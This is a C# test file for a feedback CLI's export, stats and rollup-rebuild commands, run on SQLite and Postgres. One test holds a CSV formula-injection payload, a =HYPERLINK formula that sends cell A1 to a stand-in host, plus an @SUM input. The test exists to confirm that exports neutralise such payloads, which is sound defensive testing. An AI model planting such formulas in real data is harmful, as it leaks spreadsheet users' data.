using System.Text.Json;
using Feedback.Api.Tests.Infrastructure;
using Shouldly;

namespace Feedback.Api.Tests;

/// <summary><c>export</c> and <c>stats</c> through the real CLI, on rows its own import stored, on either store.</summary>
public abstract class CliExportStatsTests : IAsyncLifetime
{
    private const string Charged = "I was charged twice for my subscription this month, please refund me now. Unacceptable!";
    private const string Love = "I love the new reports page, it is wonderful and so easy to use. Thank you!";

    private readonly string _directory = Directory.CreateTempSubdirectory("feedback-export-").FullName;
    private readonly StoreKind _kind;
    private CliStore _store = null!;

    protected CliExportStatsTests(StoreKind kind) => _kind = kind;

    public async ValueTask InitializeAsync()
    {
        _store = new CliStore(_kind, _directory);
        var csv = Path.Combine(_directory, "in.csv");
        File.WriteAllLines(csv, ["id,text,received", $"a,\"{Charged}\",2026-11-20T10:00:00Z", $"b,\"{Love}\",2026-11-21T11:30:00Z"]);
        var (exitCode, output) = await RunCliAsync("import", csv, "--id-column", "id", "--time-column", "received");
        exitCode.ShouldBe(0, output);
    }

    public ValueTask DisposeAsync()
    {
        _store.Dispose();
        Directory.Delete(_directory, recursive: true);
        return ValueTask.CompletedTask;
    }

    /// <summary>
    /// The import's rows are counted in the hourly rollups as it inserts them; a rebuild counts them again from the rows,
    /// and keeps the hours before the oldest stored message (messages purged by RETENTION_DAYS).
    /// </summary>
    [Fact]
    public async Task Rollups_count_the_imported_messages_and_a_rebuild_counts_them_again()
    {
        var postgres = _kind == StoreKind.Postgres;
        Rollups().ShouldBe(Counted(), ignoreOrder: true);
        Rollups().Values.Sum().ShouldBe(2);
        // Wrong counts in an hour that has stored messages, and counts in an hour before the oldest stored message (what
        // RETENTION_DAYS leaves of the messages it purged).
        _store.Execute("DELETE FROM feedback_rollups");
        _store.Execute(postgres
            ? "INSERT INTO feedback_rollups VALUES ('2026-01-01 00:00:00+00', 'mixed', 'ux', 'ai', true, 5), ('2026-11-20 10:00:00+00', 'mixed', 'ux', 'ai', true, 7)"
            : "INSERT INTO feedback_rollups VALUES ('2026-01-01 00:00:00', 'mixed', 'ux', 'ai', 1, 5), ('2026-11-20 10:00:00', 'mixed', 'ux', 'ai', 1, 7)");
        Rollups().Keys.ShouldBe(["2026-01-01 00", "2026-11-20 10"], ignoreOrder: true);

        var (exitCode, output) = await RunCliAsync("rollups", "rebuild", "--json");

        exitCode.ShouldBe(0, output);
        JsonDocument.Parse(output).RootElement.GetProperty("messages").GetInt64().ShouldBe(2);
        Rollups().Where(r => r.Key != "2026-01-01 00").ShouldBe(Counted(), ignoreOrder: true);
        Rollups().Keys.ShouldBe(["2026-01-01 00", "2026-11-20 10", "2026-11-21 11"], ignoreOrder: true);
        Rollups()["2026-01-01 00"].ShouldBe(5);

        Dictionary<string, long> Rollups() => Hours(Storage.RollupsSql.ReadAllSql(postgres));
        Dictionary<string, long> Counted() => Hours(Storage.RollupsSql.CountRowsSql(postgres));
        Dictionary<string, long> Hours(string sql)
        {
            using var connection = _store.Open();
            using var command = CliStore.Command(connection, $"SELECT hour, CAST(sum(count) AS bigint) FROM ({sql}) AS counted GROUP BY hour");
            using var reader = command.ExecuteReader();
            var counts = new Dictionary<string, long>(StringComparer.Ordinal);
            while (reader.Read())
            {
                counts[reader.GetString(0)] = reader.GetInt64(1);
            }

            return counts;
        }
    }

    [Fact]
    public async Task Export_writes_every_stored_message_oldest_first_with_its_answer_as_csv()
    {
        var (exitCode, output) = await RunCliAsync("export");

        exitCode.ShouldBe(0, output);
        var lines = output.Split('\n', StringSplitOptions.RemoveEmptyEntries);
        lines[0].ShouldBe("id,created_at,text,source,customer_id,sentiment,topic,confidence_score,confidence,alert_triggered,processing_method,model,prompt_version,language,status");
        lines.Length.ShouldBe(3);
        lines[1].ShouldStartWith($"1,2026-11-20T10:00:00.000Z,\"{Charged}\",");
        lines[1].ShouldContain($",{Stored(1, "sentiment")},{Stored(1, "topic")},");
        lines[2].ShouldStartWith($"2,2026-11-21T11:30:00.000Z,\"{Love}\",");
        lines[2].ShouldContain($",{Stored(2, "sentiment")},{Stored(2, "topic")},");
    }

    [Fact]
    public async Task A_text_a_spreadsheet_would_run_as_a_formula_is_exported_to_csv_as_text()
    {
        const string Formula = "=HYPERLINK(\"http://example.invalid/?d=\"&A1,\"refund\") the checkout is broken";
        var csv = Path.Combine(_directory, "formula.csv");
        File.WriteAllLines(csv, ["id,text,received", $"f,\"{Formula.Replace("\"", "\"\"", StringComparison.Ordinal)}\",2026-11-22T09:00:00Z", "g,@SUM(1+1) app is slow,2026-11-22T09:01:00Z"]);
        (await RunCliAsync("import", csv, "--id-column", "id", "--time-column", "received")).ExitCode.ShouldBe(0);

        var (exitCode, output) = await RunCliAsync("export", "--since", "2026-11-22");

        exitCode.ShouldBe(0, output);
        var lines = output.Split('\n', StringSplitOptions.RemoveEmptyEntries);
        lines[1].ShouldContain($",\"'{Formula.Replace("\"", "\"\"", StringComparison.Ordinal)}\",");
        lines[2].ShouldContain(",'@SUM(1+1) app is slow,");
        lines.ShouldAllBe(l => !l.Contains(",=", StringComparison.Ordinal) && !l.Contains(",@", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Export_since_a_date_writes_json_lines_of_the_later_messages_only()
    {
        var (exitCode, output) = await RunCliAsync("export", "--format", "jsonl", "--since", "2026-11-21");

        exitCode.ShouldBe(0, output);
        var row = JsonDocument.Parse(output.Trim()).RootElement;
        row.GetProperty("id").GetInt64().ShouldBe(2);
        row.GetProperty("created_at").GetString().ShouldBe("2026-11-21T11:30:00Z");
        row.GetProperty("text").GetString().ShouldBe(Love);
        row.GetProperty("sentiment").GetString().ShouldBe(Stored(2, "sentiment"));
        row.GetProperty("topic").GetString().ShouldBe(Stored(2, "topic"));
    }

    [Fact]
    public async Task Stats_counts_the_stored_messages_by_sentiment_and_the_alerts()
    {
        var (exitCode, output) = await RunCliAsync("stats");
        var (sinceExit, since) = await RunCliAsync("stats", "--since", "2026-11-21");

        exitCode.ShouldBe(0, output);
        output.ShouldContain("2 messages stored");
        output.ShouldContain($"{_store.Query("SELECT count(*) FROM feedback WHERE alert_triggered")} triggered an alert; 0 alerts open");
        output.ShouldContain(Stored(1, "sentiment"));
        output.ShouldContain(Stored(2, "topic"));
        sinceExit.ShouldBe(0, since);
        since.ShouldContain("1 messages since 2026-11-21 00:00 UTC");
        since.ShouldContain($"{_store.Query("SELECT count(*) FROM feedback WHERE alert_triggered AND id = 2")} triggered an alert");
    }

    /// <summary>
    /// The counts are the rollups' (as GET /stats reads them), not a count of the rows: counts kept for an hour with no
    /// stored message (what RETENTION_DAYS leaves of the messages it purged) are in the total, and outside a later range.
    /// </summary>
    [Fact]
    public async Task Stats_sums_the_rollups_including_the_hours_of_purged_messages()
    {
        var triggered = (long)_store.Query("SELECT count(*) FROM feedback WHERE alert_triggered")!;
        _store.Execute(_kind == StoreKind.Postgres
            ? "SELECT feedback_rollups_add(ARRAY[ROW('2026-01-01 05:00:00+00', 'mixed', 'ux', 'ai', true, 5)::feedback_rollups])"
            : "INSERT INTO feedback_rollups VALUES ('2026-01-01 05:00:00', 'mixed', 'ux', 'ai', 1, 5)");

        var (exitCode, output) = await RunCliAsync("stats", "--json");
        var (sinceExit, since) = await RunCliAsync("stats", "--since", "2026-01-01T05:59:00Z", "--json");
        var (laterExit, later) = await RunCliAsync("stats", "--since", "2026-01-01T06:00:00Z", "--json");

        (exitCode, sinceExit, laterExit).ShouldBe((0, 0, 0), output + since + later);
        var all = JsonDocument.Parse(output).RootElement;
        all.GetProperty("total").GetInt64().ShouldBe(7);
        all.GetProperty("sentiment").GetProperty("mixed").GetInt64().ShouldBeGreaterThanOrEqualTo(5);
        all.GetProperty("alerts_triggered").GetInt64().ShouldBe(triggered + 5);

        // --since is widened to its whole hour, as GET /stats widens from.
        JsonDocument.Parse(since).RootElement.GetProperty("total").GetInt64().ShouldBe(7);
        JsonDocument.Parse(later).RootElement.GetProperty("total").GetInt64().ShouldBe(2);
    }

    [Fact]
    public async Task Stats_json_prints_the_counts_as_one_object()
    {
        var (exitCode, output) = await RunCliAsync("stats", "--json");

        exitCode.ShouldBe(0, output);
        using var stats = JsonDocument.Parse(output);
        var root = stats.RootElement;
        root.GetProperty("total").GetInt64().ShouldBe(2);
        root.GetProperty("alerts_triggered").GetInt64().ShouldBe((long)_store.Query("SELECT count(*) FROM feedback WHERE alert_triggered")!);
        root.GetProperty("alerts_open").GetInt64().ShouldBe(0);
        root.GetProperty("sentiment").EnumerateObject().Sum(p => p.Value.GetInt64()).ShouldBe(2);
        root.GetProperty("topic").GetProperty(Stored(2, "topic")).GetInt64().ShouldBeGreaterThanOrEqualTo(1);
        root.GetProperty("processing_method").EnumerateObject().Sum(p => p.Value.GetInt64()).ShouldBe(2);
    }

    [Fact]
    public async Task Export_writes_csv_with_the_delimiter_asked_for_and_quotes_only_cells_that_hold_it()
    {
        var (exitCode, output) = await RunCliAsync("export", "--delimiter", ";");

        exitCode.ShouldBe(0, output);
        var lines = output.Split('\n', StringSplitOptions.RemoveEmptyEntries);
        lines[0].ShouldStartWith("id;created_at;text;source;");
        lines[1].ShouldStartWith($"1;2026-11-20T10:00:00.000Z;{Charged};;;{Stored(1, "sentiment")};");
    }

    private string Stored(long id, string column) => (string)_store.Query($"SELECT {column} FROM feedback WHERE id = @id", ("id", id))!;

    private Task<(int ExitCode, string Output)> RunCliAsync(params string[] args) => CliProcess.RunAsync(_directory, _store.Environment, args);
}

public sealed class CliExportStatsOnSqliteTests() : CliExportStatsTests(StoreKind.Sqlite);

public sealed class CliExportStatsOnPostgresTests() : CliExportStatsTests(StoreKind.Postgres);
